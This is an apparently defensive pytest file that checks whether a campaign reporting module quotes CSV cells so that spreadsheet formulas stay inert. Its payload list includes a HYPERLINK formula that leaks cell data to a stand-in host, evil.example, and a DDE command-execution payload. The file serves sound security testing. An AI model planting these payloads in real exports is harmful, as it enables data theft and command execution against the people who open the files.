"""CSV exports never carry a live spreadsheet formula (CSV/formula injection)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from campaigns.report import write_csv
from campaigns.stats import AnswerRow
from ivr.core.csvsafe import safe_cell, safe_writer

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋86 13812345678",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_quoted(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["油卡余额不对", "ok = fine", "a-b", "", "12.5"])
def test_plain_text_is_unchanged(value: str) -> None:
    assert safe_cell(value) == value


def test_numbers_stay_numbers() -> None:
    assert safe_cell(-3) == -3
    assert safe_cell(4.5) == 4.5
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"


def _row(text: str, name: str) -> AnswerRow:
    return AnswerRow(campaign_id=1, contact_id=2, question="comment", kind="text", score=None,
                     text=text, answered_at=datetime(2026, 11, 24, 2, 0, tzinfo=UTC),
                     phone="+8613812345678", bot="=bot", agent="@agent", line="gas",
                     name=name)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_answers_export_is_inert(payload: str) -> None:
    buf = io.StringIO()
    assert write_csv([_row(payload, payload)], buf, unmasked=True) == 1
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert len(rows) == 2
    for cell in rows[1]:
        first = cell.lstrip()[:1]
        assert first not in set("=+-@＝＋－＠"), rows[1]
        assert cell[:1] not in ("\t", "\r"), rows[1]
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["text"] == "'" + payload and row["name"] == "'" + payload
    assert row["phone"] == "'+8613812345678"  # unmasked, still text, not a formula
    assert row["bot"] == "'=bot" and row["agent"] == "'@agent"


def test_safe_writer_writerows() -> None:
    buf = io.StringIO()
    safe_writer(buf).writerows([["=1", 2], ["x", None]])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["'=1", "2"], ["x", ""]]
